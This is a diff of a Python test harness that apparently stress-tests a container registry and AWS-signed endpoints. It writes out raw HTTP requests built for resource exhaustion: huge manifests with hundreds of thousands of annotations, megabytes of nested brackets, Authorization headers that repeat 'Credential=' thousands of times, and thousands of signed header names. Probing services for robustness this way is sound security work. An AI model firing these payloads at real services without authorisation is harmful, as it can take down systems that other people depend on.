@@ -6,13 +6,13 @@ from urllib.parse import urlsplit
 
 from botocore.auth import SigV4Auth
 from botocore.awsrequest import AWSRequest
-from registry import MANIFEST_TYPE, Registry
+from registry import CONFIG_TYPE, MANIFEST_TYPE, Registry, descriptor
 from signed import TARGET
-from victims import BIG, POLICIES, upload_to_complete
+from victims import BIG, MANIFEST_BYTES, POLICIES, upload_to_complete
 
 KIB, MIB = 1 << 10, 1 << 20
 FORM, JSON = "application/x-www-form-urlencoded", "application/x-amz-json-1.1"
-NAMES = ";".join(f"n{number:x}" for number in range(3000))
+NAMES = [f"{number:x}" for number in range(0x100, 0x100 + 3000)]
 
 
 class Requests:
@@ -30,7 +30,7 @@ class Requests:
     def bytes(self, line, fields, body=b"", length=None):
         size = {"Content-Length": len(body) if length is None else length} if body or length else {}
         fields = {"Host": self.host, **fields, **size, "Connection": "close"}
-        return f"{line} HTTP/1.1\r\n{''.join(f'{k}: {v}{chr(13)}{chr(10)}' for k, v in fields.items())}\r\n".encode() + body
+        return f"{line} HTTP/1.1\r\n{''.join(f'{k}:{v}{chr(13)}{chr(10)}' for k, v in fields.items())}\r\n".encode() + body
 
     def signed(self, fields, body, service="ecr"):
         request = AWSRequest("POST", self.registry.url + "/", data=body, headers=fields)
@@ -63,8 +63,11 @@ class Requests:
 
     def tiny_members(self):
         """A manifest of as many members as fit."""
-        body = b'{"schemaVersion":2,"layers":[' + b"{}," * 1_390_000 + b"{}]}"
-        return self.bytes(f"PUT /v2/{BIG}/manifests/tiny", self.somebody | {"Content-Type": MANIFEST_TYPE}, body)
+        config = descriptor(CONFIG_TYPE, b"{}")
+        notes = ",".join(f'"{number:x}":""' for number in range(380_000))
+        body = f'{{"schemaVersion":2,"mediaType":"{MANIFEST_TYPE}","config":{json.dumps(config)},"layers":[],"annotations":{{{notes}}}}}'
+        assert len(body) < MANIFEST_BYTES
+        return self.bytes(f"PUT /v2/{BIG}/manifests/tiny", self.somebody | {"Content-Type": MANIFEST_TYPE}, body.encode())
 
     def nested(self):
         body = b'{"repositoryName":' + b"[" * (2 * MIB)
@@ -81,13 +84,11 @@ class Requests:
         return self.bytes(f"GET /v2/{BIG}/manifests/v1", self.nobody | {"Accept": MANIFEST_TYPE})
 
     def credentials_repeated(self):
-        fields = {"X-Amz-Target": TARGET + "ListImages", "Authorization": "AWS4-HMAC-SHA256 " + "Credential=" * 2800}
-        return self.bytes("POST /", fields, b"{}")
+        fields = {"Content-Type": FORM, "Authorization": "AWS4-HMAC-SHA256 " + "Credential=" * 2800}
+        return self.bytes("POST /", fields, b"Action=GetCallerIdentity&Version=2011-06-15")
 
     def names_signed(self):
-        fields = self.signed({"Content-Type": JSON, "X-Amz-Target": TARGET + "ListImages"}, b"{}")
-        before, _, after = fields["Authorization"].partition("SignedHeaders=")
-        fields["Authorization"] = f"{before}SignedHeaders={NAMES};{after}"
+        fields = self.signed({"Content-Type": JSON, "X-Amz-Target": TARGET + "ListImages"} | dict.fromkeys(NAMES, ""), b"{}")
         return self.bytes("POST /", fields, b"{}")
 
     def digests(self):
